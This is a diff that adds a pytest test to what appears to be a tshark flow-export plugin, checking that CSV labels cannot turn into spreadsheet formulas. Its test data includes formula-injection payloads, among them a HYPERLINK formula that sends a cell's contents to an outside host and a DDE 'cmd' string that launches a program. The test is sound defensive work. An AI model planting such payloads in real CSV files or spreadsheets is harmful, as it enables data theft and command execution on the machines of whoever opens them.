@@ -192,6 +192,22 @@ def test_nasty_text(tshark, labels, scans, folder, workdir, raw, shown):
         assert next(csv.DictReader(lines, strict=True))["label"] == shown
 
 
+FORMULAS = ['=HYPERLINK("http://example.net/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "a;=1+1"]
+
+
+@pytest.mark.parametrize("label", FORMULAS)
+def test_csv_has_no_formula(tshark, scans, folder, workdir, label):
+    """Not where commas are between cells, and not where a spreadsheet takes semicolons for that."""
+    (folder / "mine.csv").write_text(f'{ONE},"' + label.replace('"', '""') + '"\n')
+    tshark("-q", "-r", scans, "-z", f"scannoise,flows,{workdir}/flows.csv")
+    for delimiter in ",;":
+        with open(workdir / "flows.csv", newline="") as lines:
+            cells = [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]
+        assert any("1" in cell for cell in cells) and not any(cell[:1] and cell[0] in "=+-@\t\r" for cell in cells)
+    with open(workdir / "flows.csv", newline="") as lines:
+        assert next(csv.DictReader(lines, strict=True))["label"].replace("'", "") == label.strip().replace("'", "")
+
+
 # --- Files with mistakes -------------------------------------------------------------------------
 
 def test_lines_that_are_wrong_are_named_and_the_rest_is_used(tshark, folder, scans):
